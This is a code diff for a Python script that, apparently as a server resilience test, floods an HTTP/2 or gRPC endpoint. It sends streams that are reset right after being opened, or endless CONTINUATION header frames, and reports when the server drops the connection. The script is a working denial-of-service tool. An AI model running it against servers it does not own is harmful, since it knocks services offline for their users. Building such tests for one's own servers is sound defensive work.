@@ -8,33 +8,20 @@ usage: http2_flood.py HOST:PORT CONNECTIONS STREAMS [--tls] [--apart | --header]
 Opens CONNECTIONS connections one after another, and tries to send STREAMS streams on each. A reset follows its call at once, or with
 --apart when the call has been processed. With --header, each connection has one stream, whose header has STREAMS continuations of
 16,000 bytes and does not end. Prints, for each connection, how many of them had been sent when the other side closed it, or `all` if it
-did not.
+did not, or `stalled` if it neither took nor sent anything for 30 s. Ends with status 1 if the first connection cannot be opened; 0 is
+printed for another one.
 """
 import argparse
+import pathlib
 import socket
 import ssl
-import struct
+import sys
+
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent / "adversary"))
+import http2  # noqa: E402
 
 BATCH = 50
 TIMEOUT_S = 30
-HEADERS, CONTINUATION, END_HEADERS = 1, 9, 4
-RST_STREAM, CANCEL = 3, struct.pack(">I", 8)
-# A field with a value of 16,000 bytes, without indexing: the length is 127 + 1 + 124 * 128, RFC 7541, section 5.1.
-LONG_FIELD = b"\x00\x01a\x7f\x81\x7c" + b"a" * 16_000
-
-
-def frame(kind, flags, stream, payload):
-    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
-
-
-def text(value):
-    return bytes([len(value)]) + value
-
-
-def headers(is_tls):
-    """The header of a call as HPACK: POST, scheme, path, authority, content type and trailers, from the static table or literal."""
-    return (b"\x83" + (b"\x87" if is_tls else b"\x86") + b"\x04" + text(b"/evpose.v1.AdminService/GetServerInfo") + b"\x01" +
-            text(b"flood") + b"\x0f\x10" + text(b"application/grpc") + b"\x00\x02te\x08trailers")
 
 
 def connect(arguments):
@@ -50,67 +37,71 @@ def connect(arguments):
     return connection
 
 
-def is_closed(connection):
-    """Reads what has come, without waiting."""
+def read(connection):
+    """Reads what has come. Raises ConnectionError if the other side has closed."""
+    data = connection.recv(1 << 16)
+    if not data:
+        raise ConnectionError
+    return data
+
+
+def check_open(connection):
+    """Reads what has come, without waiting. Raises ConnectionError if the other side has closed."""
     connection.setblocking(False)
     try:
-        while connection.recv(1 << 16):
-            pass
-        return True
+        while True:
+            read(connection)
     except (BlockingIOError, ssl.SSLWantReadError):
-        return False
+        pass
     finally:
         connection.settimeout(TIMEOUT_S)
 
 
-def has_answered(connection):
-    """Waits until the other side has processed what was sent before a PING, or has closed."""
-    connection.sendall(frame(6, 0, 0, bytes(8)))
+def await_answer(connection):
+    """Waits until the other side has processed what was sent before a PING."""
+    connection.sendall(http2.frame(http2.PING, 0, 0, bytes(8)))
     got = b""
-    while frame(6, 1, 0, bytes(8)) not in got:
-        read = connection.recv(1 << 16)
-        if not read:
-            return False
-        got = got[-16:] + read
-    return True
+    while http2.frame(http2.PING, 1, 0, bytes(8)) not in got:
+        got = got[-16:] + read(connection)
 
 
-def flood(arguments):
-    block = headers(arguments.tls)
+def flood(arguments, connection):
+    """Yields the number of streams that have been sent, after each batch."""
+    block = http2.call(arguments.tls)
+    for sent in range(0, arguments.streams, BATCH):
+        numbers = range(2 * sent + 1, 2 * (sent + BATCH) + 1, 2)
+        calls = [http2.frame(http2.HEADERS, http2.END_HEADERS, number, block) for number in numbers]
+        resets = [http2.frame(http2.RST_STREAM, 0, number, http2.CANCEL) for number in numbers]
+        if arguments.apart:
+            connection.sendall(b"".join(calls))
+            await_answer(connection)
+            connection.sendall(b"".join(resets))
+        else:
+            connection.sendall(b"".join(call + reset for call, reset in zip(calls, resets)))
+            check_open(connection)
+        yield sent + BATCH
+
+
+def flood_header(arguments, connection):
+    """Yields the number of continuations that have been sent, after each."""
+    connection.sendall(http2.frame(http2.HEADERS, 0, 1, http2.call(arguments.tls)))
+    for sent in range(arguments.streams):
+        connection.sendall(http2.frame(http2.CONTINUATION, 0, 1, http2.LONG_FIELD))
+        yield sent + 1
+        check_open(connection)
+
+
+def run(arguments, connection):
+    """Returns what became of a connection."""
     sent = 0
     try:
-        with connect(arguments) as connection:
-            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
-            while sent < arguments.streams:
-                numbers = range(2 * sent + 1, 2 * (sent + BATCH) + 1, 2)
-                calls = [frame(HEADERS, END_HEADERS, number, block) for number in numbers]
-                resets = [frame(RST_STREAM, 0, number, CANCEL) for number in numbers]
-                if arguments.apart:
-                    connection.sendall(b"".join(calls))
-                    if not has_answered(connection):
-                        return sent
-                    connection.sendall(b"".join(resets))
-                else:
-                    connection.sendall(b"".join(call + reset for call, reset in zip(calls, resets)))
-                    if is_closed(connection):
-                        return sent
-                sent += BATCH
-            return "all"
-    except OSError:
-        return sent
-
-
-def flood_header(arguments):
-    sent = 0
-    try:
-        with connect(arguments) as connection:
-            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(HEADERS, 0, 1, headers(arguments.tls)))
-            while sent < arguments.streams:
-                connection.sendall(frame(CONTINUATION, 0, 1, LONG_FIELD))
-                sent += 1
-                if is_closed(connection):
-                    return sent
-            return "all"
+        with connection:
+            connection.sendall(http2.PREFACE + http2.EMPTY_SETTINGS)
+            for sent in (flood_header if arguments.header else flood)(arguments, connection):
+                pass
+        return "all"
+    except TimeoutError:
+        return "stalled"
     except OSError:
         return sent
 
@@ -125,8 +116,15 @@ def main():
     parser.add_argument("--tls", action="store_true")
     parser.add_argument("--source")
     arguments = parser.parse_args()
-    for _ in range(arguments.connections):
-        print((flood_header if arguments.header else flood)(arguments), flush=True)
+    for number in range(arguments.connections):
+        try:
+            connection = connect(arguments)
+        except OSError as error:
+            if number == 0:
+                raise  # nobody listens, or the handshake of TLS fails: nothing has been tested
+            print("stalled" if isinstance(error, TimeoutError) else 0, flush=True)
+            continue
+        print(run(arguments, connection), flush=True)
 
 
 main()
